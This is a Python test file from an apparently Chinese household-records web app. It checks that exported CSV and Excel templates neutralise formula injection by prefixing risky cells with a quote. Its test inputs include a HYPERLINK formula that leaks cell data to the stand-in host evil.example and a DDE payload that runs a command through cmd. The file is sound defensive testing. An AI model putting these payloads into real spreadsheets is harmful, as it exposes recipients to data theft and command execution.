"""Spreadsheets we hand out never run a cell as a formula (CSV/formula injection)."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.common.spreadsheets import csv_bytes, safe_cell
from app.services.grid import ledger_file

TEMPLATE = "/api/v1/imports/households/template"
APP = Path(__file__).resolve().parents[2] / "app"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value
    row = next(csv.reader(io.StringIO(csv_bytes([["张三", value, 42]]).decode("utf-8-sig"))))
    assert row == ["张三", "'" + value, "42"]


@pytest.mark.parametrize("value", ["张三", "13800000000", "a=b", "", None, 3, -4.5])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_both_templates_neutralise_a_formula(client, staff_headers, monkeypatch):
    _, headers = staff_headers("township_admin", "township", "341002002000")
    monkeypatch.setitem(ledger_file.TEMPLATE_EXAMPLE, "name", FORMULAS[0])
    monkeypatch.setitem(ledger_file.TEMPLATE_EXAMPLE, "address", "@cmd|' /C calc'!A0")

    table = list(
        csv.reader(
            io.StringIO(client.get(TEMPLATE + "?format=csv", headers=headers).data.decode("utf-8-sig"))
        )
    )
    example = dict(zip(table[0], table[1], strict=True))
    assert example["name"] == "'" + FORMULAS[0] and example["address"] == "'@cmd|' /C calc'!A0"

    sheet = load_workbook(io.BytesIO(client.get(TEMPLATE, headers=headers).data)).worksheets[0]
    cells = {heading.value: cell for heading, cell in zip(sheet[1], sheet[2], strict=True)}
    assert cells["name"].data_type == "s" and cells["name"].value == "'" + FORMULAS[0]
    assert cells["address"].data_type == "s"


def test_every_module_writing_a_spreadsheet_uses_the_helper():
    writes = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter")
    writers = [path for path in APP.rglob("*.py") if writes.search(path.read_text(encoding="utf-8"))]
    assert APP / "services/grid/ledger_file.py" in writers  # the check sees the template
    for path in writers:
        if path.name != "spreadsheets.py":
            text = path.read_text(encoding="utf-8")
            assert "app.common.spreadsheets" in text, f"{path} writes a spreadsheet without the helper"
